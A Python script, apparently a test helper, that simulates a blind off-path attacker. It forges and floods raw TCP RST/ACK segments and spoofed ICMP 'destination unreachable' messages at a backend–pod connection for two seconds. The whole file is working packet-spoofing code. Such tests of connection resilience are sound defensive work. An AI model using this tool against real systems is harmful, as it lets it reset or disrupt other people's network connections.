"""Packets of an attacker that knows a connection's addresses and ports and not its sequence numbers.

forge.py rst|icmp|denial|ack BACKEND PORT POD PORT     for two seconds, one in a millisecond
"""

from __future__ import annotations

import socket
import struct
import sys
import time

RST, SYN, ACK = 0x04, 0x02, 0x10
FLAGS = {"rst": RST | ACK, "ack": ACK}
CODES = {"icmp": 1, "denial": 13}
"""Of "destination unreachable": no host, and administratively prohibited."""


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def ip(source: str, target: str, protocol: int, payload: bytes) -> bytes:
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol, 0) + addresses
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def tcp(source: str, sport: int, target: str, dport: int, flags: int) -> bytes:
    head = struct.pack("!HHIIBBHHH", sport, dport, 77, 78, 0x50, flags, 0, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!HH", socket.IPPROTO_TCP, len(head))
    return head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]


def icmp(code: int, quoted: bytes) -> bytes:
    head = struct.pack("!BBHI", 3, code, 0, 0) + quoted
    return head[:2] + struct.pack("!H", checksum(head)) + head[4:]


def main() -> None:
    kind, backend, port, pod, pod_port = sys.argv[1:]
    if kind in FLAGS:
        packet = ip(backend, pod, socket.IPPROTO_TCP, tcp(backend, int(port), pod, int(pod_port), FLAGS[kind]))
    else:
        sent = ip(pod, backend, socket.IPPROTO_TCP, tcp(pod, int(pod_port), backend, int(port), SYN))
        packet = ip("10.7.0.2", pod, socket.IPPROTO_ICMP, icmp(CODES[kind], sent))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        print("ready", flush=True)
        end = time.monotonic() + 2
        while time.monotonic() < end:
            sock.sendto(packet, (pod, 0))
            time.sleep(0.001)


main()
